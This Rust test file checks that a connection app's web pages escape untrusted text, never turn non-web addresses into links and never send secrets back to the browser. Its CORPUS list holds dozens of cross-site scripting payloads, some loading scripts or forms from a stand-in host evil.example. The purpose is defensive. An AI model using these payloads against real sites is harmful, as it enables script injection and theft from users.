//! Every page as text: what it says, and that what others say stays text.

use std::sync::Arc;

use askama::Template as _;
use keybearer_app::brand::{PageBrand, Settings};

use keybearer_app::connectors::forms::{Fault, Note};
use keybearer_core::{Code, Reference, Timestamp};
use url::Url;

use super::contract::{
    CredentialPage, DonePage, FormProblem, FormTrouble, IdentityPage, InputKind, Page, PageBody, PageField,
    PageForm, PageHead, PermissionLine, ProblemCase, ProblemPage, ScopeChoice, Standing, StartNext,
    StartPage, WaitingPage,
};
use super::frame::{Href, Scene};
use super::samples::{NAMES, sample};
use super::views::{AbsentView, HopView, html};
use super::words;
use crate::web::assets;

/// Texts that broke out of pages elsewhere.
const CORPUS: [&str; 62] = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script/src=//evil.example>",
    "<script\n>alert(1)</script\n>",
    "<<script>alert(1)//<</script>",
    "\"><img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)//",
    "</svg><svg onload=alert(1)>",
    "</text></svg><script>alert(1)</script>",
    "<math><mtext><script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "0;url=javascript:alert(1)",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=x>",
    "<button formaction=//evil.example>go</button>",
    "<input autofocus onfocus=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' autofocus onfocus=alert(1) x='",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "x onmouseover=alert(1)",
    "\" style=\"background:url(//evil.example)",
    "\" formaction=\"//evil.example",
    "\" href=\"javascript:alert(1)",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "\\\"><script>alert(1)</script>",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}",
    "\u{202E}<script>alert(1)</script>",
    "{{ 7*7 }}{% include \"/etc/passwd\" %}",
    "{app}{provider}{user}<b>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
];

/// Tags with the names of their attributes, in order: what must not depend on anybody's text.
fn skeleton(html: &str) -> Vec<String> {
    let mut tags = Vec::new();
    let mut rest = html;
    while let Some((_, tail)) = rest.split_once('<') {
        let mut tag = String::new();
        let mut quote = None;
        let mut end = tail.len();
        for (at, character) in tail.char_indices() {
            match (quote, character) {
                (None, '>') => {
                    end = at;
                    break;
                }
                (None, '"' | '\'') => quote = Some(character),
                (Some(open), close) if open == close => quote = None,
                (None, character) => tag.push(character),
                (Some(_), _) => {}
            }
        }
        tags.push(tag);
        rest = tail.get(end..).unwrap_or_default();
    }
    tags
}

/// A brand with `text` in every place that somebody fills in.
fn branded(text: &str) -> Settings {
    let url = |text: &str| {
        Url::parse("https://a.example/").ok().map(|mut url| {
            url.set_query(Some(text));
            url
        })
    };
    let words = ["cancel", "help", "privacy", "close"].map(|key| (key.to_owned(), text.to_owned()));
    Settings {
        support_url: url(text),
        privacy_url: url(text),
        words: words::LANGUAGES.iter().map(|one| (one.tag.to_owned(), words.clone().into())).collect(),
        ..Settings::default()
    }
}

/// Every page with `text` in every string that comes from elsewhere.
fn pages(text: &str) -> Vec<Page> {
    let head = || PageHead {
        app_name: text.into(),
        connector_name: text.into(),
        connector_slug: text.into(),
        identifier: text.into(),
        purpose: Some(text.into()),
        test: true,
        sandbox: true,
        locale: Some(text.into()),
        english: true,
        refuses_embedded: true,
        brand: Arc::new(PageBrand { settings: branded(text), ..PageBrand::default() }),
        return_url: Url::parse("https://a.example/back").ok(),
        from_user_page: false,
    };
    let url = || {
        let mut url = Url::parse("https://a.example/p").unwrap();
        url.set_query(Some(text));
        url.set_fragment(Some(text));
        Some(url)
    };
    let line = || PermissionLine { scope: text.into(), plain: text.into(), sensitive: true, new: true };
    let start = |next| StartPage {
        provider_host: text.into(),
        permissions: vec![line()],
        standing: Standing::Connected { identity: Some(text.into()) },
        next,
        cancel_url: url(),
        expires_at: Timestamp::from_seconds(0),
    };
    let problem = |case| ProblemPage {
        case,
        code: Code::Internal,
        reference: Reference::unknown(),
        ended_at: None,
        retry: true,
        identity: Some(text.into()),
        wait_seconds: Some(3),
        return_url: url(),
    };
    let notes = vec![Note::Account { email: text.into(), project: Some(text.into()) }];
    let identity = Some(text.into());
    let stay = Some("/connect/success?flow=flow_1&stay=1".to_owned());
    let done = DonePage { identity, missing: vec![line()], return_url: url(), again: true, notes, stay };
    let mut bodies = vec![
        PageBody::Start(start(StartNext::Link(url().unwrap()))),
        PageBody::Start(start(StartNext::Form(form(text, url())))),
        PageBody::Credentials(CredentialPage { form: form(text, url()), cancel_url: url(), shared: false }),
        PageBody::IdentityChanged(IdentityPage { before: text.into(), now: text.into(), csrf: text.into() }),
        PageBody::Done(done),
        PageBody::Waiting(WaitingPage { slow: true }),
    ];
    bodies.extend(CASES.map(|case| PageBody::Problem(problem(case))));
    bodies.into_iter().map(|body| Page { head: head(), body }).collect()
}

const CASES: [ProblemCase; 11] = [
    ProblemCase::Denied,
    ProblemCase::LinkEnded,
    ProblemCase::LinkUsed,
    ProblemCase::AppRefused,
    ProblemCase::AdministratorNeeded,
    ProblemCase::OtherBrowser,
    ProblemCase::ProviderAway,
    ProblemCase::OtherPerson,
    ProblemCase::ConnectionOff,
    ProblemCase::TooManyTries,
    ProblemCase::Internal,
];

fn form(text: &str, url: Option<Url>) -> PageForm {
    let choice = InputKind::Choice(vec![text.into()]);
    let kinds = [InputKind::Text, InputKind::Number, InputKind::Url, choice, InputKind::Area];
    let field = |input| PageField {
        name: text.into(),
        label: text.into(),
        help: Some(text.into()),
        where_to_find: url.clone(),
        input,
        secret: false,
        required: false,
        example: Some(text.into()),
        pattern: Some(text.into()),
        prefix: Some(text.into()),
        suffix: Some(text.into()),
        value: text.into(),
        error: Some(Fault::Example(text.into())),
        notes: vec![
            Note::Scheme(text.into()),
            Note::Key { kind: text.into(), fingerprint: Some(text.into()) },
        ],
    };
    let scope =
        ScopeChoice { scope: text.into(), plain: text.into(), sensitive: true, locked: true, chosen: true };
    PageForm {
        csrf: text.into(),
        fields: kinds.map(field).into(),
        scopes: vec![scope],
        problem: Some(FormProblem { kind: FormTrouble::Rejected, reference: Reference::unknown() }),
    }
}

fn scene(tag: &str, link: Option<&str>) -> Scene {
    let own = link.map(Href::link);
    Scene { words: words::of(tag), switch: own.clone(), own, still: false }
}

fn rendered(text: &str) -> Vec<String> {
    let scene = scene("en", Some(text));
    let mut all: Vec<_> = pages(text).iter().map(|page| html(page, &scene).unwrap()).collect();
    let mut to = Url::parse("https://a.example/p").unwrap();
    to.set_query(Some(text));
    all.push(HopView::new(&PageHead::default(), Href::web(&to).unwrap(), text, &scene).render().unwrap());
    all
}

#[test]
fn no_text_of_others_changes_the_structure_of_a_page() {
    let calm: Vec<_> = rendered("calm").iter().map(|html| skeleton(html)).collect();
    for text in CORPUS {
        for (html, calm) in rendered(text).iter().zip(&calm) {
            assert_eq!(&skeleton(html), calm, "{text}");
            assert!(html.to_ascii_lowercase().matches("<script").count() <= 1, "{text}");
        }
    }
}

#[test]
fn the_structure_check_finds_what_breaks_out() {
    let calm = skeleton("<p title=\"calm\">calm</p>");
    assert_eq!(calm, ["p title=", "/p"]);
    for text in ["\" onclick=\"x", "\"><img src=x", "\" x"] {
        assert_ne!(skeleton(&format!("<p title=\"{text}\">calm</p>")), calm, "{text}");
    }
    assert_ne!(skeleton("<p title=\"calm\"><b></p>"), calm);
}

#[test]
fn no_page_has_a_script_of_its_own_a_style_attribute_or_a_handler() {
    for html in rendered("calm") {
        for tag in skeleton(&html) {
            let script = tag.starts_with("script") && tag != "script defer src=";
            assert!(!script && !tag.contains(" style=") && !tag.contains(" on"), "{tag}");
        }
        assert_eq!(html.matches("</script>").count(), html.matches(".js\"></script>").count());
    }
}

#[test]
fn addresses_that_are_not_on_the_web_never_become_links() {
    for bad in ["javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd"] {
        let url = Url::parse(bad).unwrap();
        let field = PageField { where_to_find: Some(url.clone()), ..PageField::default() };
        let form = PageForm { fields: vec![field], ..PageForm::default() };
        let start = StartPage {
            provider_host: String::new(),
            permissions: Vec::new(),
            standing: Standing::New,
            next: StartNext::Link(url.clone()),
            cancel_url: Some(url.clone()),
            expires_at: Timestamp::default(),
        };
        let return_url = Some(url.clone());
        let done = DonePage { return_url, stay: Some("/stay".to_owned()), ..DonePage::default() };
        let bodies = [
            PageBody::Start(start),
            PageBody::Credentials(CredentialPage { form, cancel_url: Some(url), shared: true }),
            PageBody::Done(done),
        ];
        for body in bodies {
            let html = html(&Page { head: PageHead::default(), body }, &scene("en", None)).unwrap();
            let scheme = format!("{}:", bad.split_once(':').unwrap().0);
            assert!(!html.contains(&scheme), "{bad}: {html}");
        }
    }
}

#[test]
fn a_secret_never_goes_back_to_the_browser() {
    let page = sample("keys-wrong").unwrap();
    let html = html(&page, &scene("en", None)).unwrap();
    assert!(html.contains("type=\"password\"") && !html.contains("never shown"));
}

#[test]
fn text_without_end_is_cut() {
    let html = html(&pages(&"x".repeat(100_000))[0], &scene("en", None)).unwrap();
    let shown = html.lines().filter(|line| !line.contains("href=")).map(str::len).sum::<usize>();
    assert!(shown < 12_000, "{shown}");
}

#[test]
fn every_page_says_what_it_says() {
    let hash = assets::address("");
    for name in NAMES {
        let html = html(&sample(name).unwrap(), &scene("en", Some("t0ken"))).unwrap();
        insta::assert_snapshot!(name, html.replace(&hash, "/static/HASH/"));
    }
    insta::assert_snapshot!(
        "absent",
        AbsentView::new(&scene("en", None)).render().unwrap().replace(&hash, "/static/HASH/")
    );
}

#[test]
fn titles_are_all_different_and_say_the_state() {
    let title = |name: &str| {
        let html = html(&sample(name).unwrap(), &scene("en", None)).unwrap();
        html.split_once("<title>").unwrap().1.split_once("</title>").unwrap().0.to_owned()
    };
    assert_eq!(title("done"), "CodeHarbor is connected");
    assert_eq!(title("keys-wrong"), "Not connected yet: Watchtower and Fieldnote");
    assert_eq!(title("denied"), "Not connected");
    let problems: Vec<_> =
        NAMES.iter().skip_while(|name| **name != "denied").map(|name| title(name)).collect();
    let different: std::collections::BTreeSet<_> = problems.iter().collect();
    assert_eq!(different.len(), problems.len());
}
